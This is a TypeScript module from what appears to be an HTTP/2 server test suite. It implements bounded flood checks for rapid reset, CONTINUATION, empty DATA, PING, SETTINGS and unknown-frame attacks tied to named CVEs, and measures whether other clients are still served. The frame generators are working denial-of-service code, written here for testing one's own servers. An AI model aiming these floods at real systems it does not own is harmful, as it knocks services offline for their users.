import { type Check, expect } from '../check.ts'
import type { Http2Connection } from '../connection.ts'
import type { CheckContext } from '../context.ts'
import {
  dataFrame,
  encodeFrame,
  FLAG,
  FRAME,
  pingFrame,
  resetFrame,
  SETTING,
  settingsFrame,
} from '../frames.ts'
import { encodeFields } from '../hpack.ts'
import { connectFields, openTunnel } from '../tunnel.ts'

/** One kind of frame, sent as fast as the target takes it. */
interface Flood {
  readonly name: string
  readonly title: string
  readonly level: Check['level']
  readonly standsOn: string
  readonly explanation: string
  /** Frames at the most. */
  readonly count: number
  /** The target must end the connection; otherwise it is enough that others are served. */
  readonly mustEnd: boolean
  /** Whether we go on reading. */
  readonly reads: boolean
  /** What is sent again and again; `index` counts from 0. */
  start(context: CheckContext, connection: Http2Connection): Promise<(index: number) => Buffer>
}

const ROWS: readonly Flood[] = [
  {
    name: 'rapid-reset',
    title: 'serves others while a client opens and resets streams without end',
    level: 'must',
    standsOn: 'CVE-2023-44487; RFC 9113 section 10.5',
    explanation:
      'Each pair of frames makes the target begin work that it then throws away, and no stream limit counts it.',
    count: 10_000,
    mustEnd: false,
    reads: true,
    start: async (context, connection) => {
      const block = encodeFields(connectFields(context.target.authority ?? '192.0.2.1:80'))
      return () => {
        const streamId = connection.newStreamId()
        const headers = encodeFrame({
          type: FRAME.HEADERS,
          flags: FLAG.END_HEADERS,
          streamId,
          payload: block,
        })
        return Buffer.concat([headers, resetFrame(streamId, 'CANCEL')])
      }
    },
  },
  {
    name: 'continuation',
    title: 'ends a connection whose header block never ends',
    level: 'must',
    standsOn: 'VU#421644 (CVE-2024-27316 and others); RFC 9113 section 10.5.1',
    explanation:
      'The block must be kept until it ends, and until then no limit on header lists has been reached, if one only looks at the end.',
    count: 2_000,
    mustEnd: true,
    reads: true,
    start: async (_context, connection) => {
      const streamId = connection.newStreamId()
      const block = encodeFields(connectFields('192.0.2.1:80'))
      const piece = encodeFields([['x-flood', 'f'.repeat(8000)]])
      return (index) =>
        index === 0
          ? encodeFrame({ type: FRAME.HEADERS, streamId, payload: block })
          : encodeFrame({ type: FRAME.CONTINUATION, streamId, payload: piece })
    },
  },
  {
    name: 'empty-continuation',
    title: 'ends a connection that sends empty CONTINUATIONs without end',
    level: 'should',
    standsOn: 'CVE-2019-9518; RFC 9113 section 10.5',
    explanation: 'No byte of a header, so that no size limit is ever reached, but work for each frame.',
    count: 100_000,
    mustEnd: true,
    reads: true,
    start: async (_context, connection) => {
      const streamId = connection.newStreamId()
      const block = encodeFields(connectFields('192.0.2.1:80'))
      const empty = encodeFrame({ type: FRAME.CONTINUATION, streamId })
      return (index) => (index === 0 ? encodeFrame({ type: FRAME.HEADERS, streamId, payload: block }) : empty)
    },
  },
  {
    name: 'empty-data',
    title: 'serves others while a client sends empty DATA without end',
    level: 'must',
    standsOn: 'CVE-2019-9518; RFC 9113 section 10.5',
    explanation: 'Empty frames cost no window, so that flow control does not slow them.',
    count: 50_000,
    mustEnd: false,
    reads: true,
    start: async (context, connection) => {
      if (context.target.authority === undefined) return () => dataFrame(1, Buffer.alloc(0))
      const stream = await openTunnel(connection, context.authority)
      const empty = dataFrame(stream.id, Buffer.alloc(0))
      return () => empty
    },
  },
  {
    name: 'ping',
    title: 'serves others while a client sends PING without end and reads no answer',
    level: 'must',
    standsOn: 'CVE-2019-9512; RFC 9113 section 10.5',
    explanation: 'Each PING wants an answer, and the answers pile up where nobody takes them.',
    count: 100_000,
    mustEnd: false,
    reads: false,
    start: async () => {
      const ping = pingFrame()
      return () => ping
    },
  },
  {
    name: 'settings',
    title: 'serves others while a client sends SETTINGS without end and reads no answer',
    level: 'must',
    standsOn: 'CVE-2019-9515; RFC 9113 section 10.5',
    explanation: 'As for PING; and each may change the window of every stream.',
    count: 100_000,
    mustEnd: false,
    reads: false,
    start: async () => {
      const frames = [1, 2].map((value) => settingsFrame({ [SETTING.INITIAL_WINDOW_SIZE]: value * 65_535 }))
      return (index) => frames[index % 2] ?? settingsFrame()
    },
  },
  {
    name: 'unknown-frames',
    title: 'serves others while a client sends unknown frames without end',
    level: 'must',
    standsOn: 'RFC 9113 sections 5.5 and 10.5',
    explanation: 'To be ignored is not to be free.',
    count: 50_000,
    mustEnd: false,
    reads: true,
    start: async () => {
      const frame = encodeFrame({ type: 0xbb, payload: Buffer.alloc(32) })
      return () => frame
    },
  },
]

/**
 * Attacks, bounded in number and time: for a target of your own, on loopback
 * or in a namespace. Never aim them at what others use.
 */
export const floodChecks: readonly Check[] = ROWS.map(({ start, ...flood }) => ({
  name: `flood/${flood.name}`,
  title: flood.title,
  level: flood.level,
  standsOn: flood.standsOn,
  explanation: flood.explanation,
  ...(flood.name === 'empty-data' ? { needs: ['authority'] as const } : {}),
  run: async (context) => {
    const connection = await context.connected({ extraCredit: 1_000_000 })
    const next = await start(context, connection)
    if (!flood.reads) connection.socket.pause()
    const attack = send(connection, next, flood.count)
    // In the middle of it, and after it.
    const during = await context.neighbour()
    const sent = await attack
    connection.socket.resume()
    const after = await context.neighbour()
    const isOver = await connection.wait(() => isEnded(connection), flood.mustEnd ? END_MS : SETTLE_MS)
    const others = `others wait ${Math.round(Math.max(during, after))} ms`
    const end = isOver === true || isEnded(connection) ? connection.describeEnd() : 'all taken'
    return expect(!flood.mustEnd || isEnded(connection), `${sent} sent, ${end}; ${others}`)
  },
}))

/** In slices, so that the target's GOAWAY is seen and others get their turn; returns how many were sent. */
async function send(
  connection: Http2Connection,
  next: (index: number) => Buffer,
  count: number,
): Promise<number> {
  const end = performance.now() + FLOOD_MS
  let sent = 0
  while (sent < count && !isEnded(connection) && performance.now() < end) {
    const slice = Array.from({ length: Math.min(SLICE, count - sent) }, (_, i) => next(sent + i))
    sent += slice.length
    connection.write(...slice)
    await flushed(connection, end)
  }
  return sent
}

/** Until the kernel has taken it, or the time is over: a target that no longer reads is not written to. */
function flushed(connection: Http2Connection, end: number): Promise<void> {
  const { socket } = connection
  return new Promise((resolve) => {
    const done = (): void => {
      clearTimeout(timer)
      socket.off('drain', done).off('close', done)
      setImmediate(resolve)
    }
    const timer = setTimeout(done, Math.max(0, end - performance.now()))
    if (!socket.writableNeedDrain || socket.destroyed) return done()
    socket.once('drain', done).once('close', done)
  })
}

function isEnded(connection: Http2Connection): boolean {
  return connection.ended !== undefined || connection.goaways.length > 0 || connection.socket.destroyed
}

/** One flood takes so long at the most, milliseconds. */
const FLOOD_MS = 5_000
/** Frames of one write. */
const SLICE = 100
/** For a target that must end the connection and has the frames still to read, milliseconds. */
const END_MS = 10_000
/** For the end that is only noted, milliseconds. Envoy says nothing, and closes a second later. */
const SETTLE_MS = 2_000
